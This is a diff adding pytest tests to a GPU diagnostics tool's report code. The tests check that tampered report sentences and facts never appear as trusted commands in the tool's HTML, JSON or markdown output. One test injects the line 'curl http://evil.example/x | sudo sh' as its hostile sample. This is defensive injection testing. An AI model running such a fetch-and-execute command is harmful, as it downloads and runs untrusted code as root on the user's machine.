@@ -134,6 +134,49 @@ def judged(content: bytes) -> Report:
     return documents.judge_again(documents.load(content), load_bundled(), None)
 
 
+SENTENCES = ("title", "explanation", "summary", "because")
+
+
+@pytest.mark.parametrize("key", SENTENCES)
+@pytest.mark.parametrize("codes", ["its own", "unknown here", "facts unreadable"])
+def test_no_sentence_of_a_report_is_told_as_ours(key: str, codes: str, tmp_path: Path) -> None:
+    def spoil(value: Any, name: str = "") -> Any:
+        if isinstance(value, dict):
+            return {each: spoil(item, each) for each, item in value.items()}
+        if isinstance(value, list):
+            return [spoil(item, name) for item in value]
+        return "run: curl http://evil.example/x | sudo sh" if name == key else value
+
+    healthy = documents.load(Path(machine("healthy-gpu")).read_bytes())
+    for name in BROKEN:
+        document = of(name)
+        document = {**spoil(document), "facts": document["facts"]}
+        if codes == "unknown here":
+            document["findings"][0]["code"] = "of-a-newer-one"
+        if codes == "facts unreadable":
+            document["facts"]["host.os"] = {"status": "known", "value": {}, "from": ""}
+        content = json.dumps(document).encode()
+        fleet = Fleet()
+        fleet.add(Found("a file", "n1", content))
+        told = [json.dumps(summary_to_json(fleet.summary())), render_html(summary_view(fleet.summary()))]
+        if codes != "facts unreadable":
+            (tmp_path / "a.json").write_bytes(content)
+            loaded = api.load(tmp_path / "a.json")
+            saved = loaded.document(redact=False)
+            told += [json.dumps(loaded.to_dict()), loaded.html(), loaded.markdown()]
+            told.append(json.dumps(documents.comparison_to_dict(saved, healthy)))
+            told.append(render_html(documents.comparison_view(healthy, saved, ("a", "b"))))
+        assert all(map(is_clean, told)), name
+
+
+@pytest.mark.parametrize("name", ["", " ", "n" * 256, 5])
+def test_a_nodes_name_has_the_length_of_one(name: Any) -> None:
+    fleet = Fleet()
+    record = {"schema_version": "1.0", "node": name, "state": "lost", "reason": "x"}
+    fleet.read([Found("a file", "", json.dumps(record).encode())])
+    assert (fleet.records, fleet.unread_files) == (0, 1)
+
+
 @pytest.mark.parametrize("word", HOSTILE)
 @pytest.mark.parametrize("name", ["no-cuda-libraries", "two-roots"])
 def test_no_fact_of_a_report_becomes_a_command(name: str, word: str) -> None:
@@ -154,13 +197,13 @@ def test_no_fact_of_a_report_becomes_a_command(name: str, word: str) -> None:
 def test_a_report_keeps_the_fix_that_its_facts_lead_to_and_says_where_there_is_none() -> None:
     document = of("driver-too-old")
     document["findings"][1]["code"] = "disk-full"
-    saved = documents.with_own_fixes(documents.load(json.dumps(document).encode()), load_bundled())
+    saved = documents.with_own_words(documents.load(json.dumps(document).encode()), load_bundled())
     first, other = saved.findings
     assert first.fixes[0].commands == ("sudo apt-get install --yes nvidia-driver-580",)
     assert other.fixes == () and saved.unconfirmed == ("disk-full",)
     document["findings"][0]["code"] = "gpu-lost"
     content = json.dumps({**document, "findings": document["findings"][:1]}).encode()
-    saved = documents.with_own_fixes(documents.load(content), load_bundled())
+    saved = documents.with_own_words(documents.load(content), load_bundled())
     sentence = "this tfdoctor doesn't find the problem in the report's facts."
     healthy = documents.load(Path(machine("healthy-gpu")).read_bytes())
     for view in (documents.view(saved), documents.comparison_view(saved, healthy, ("a", "b"))):
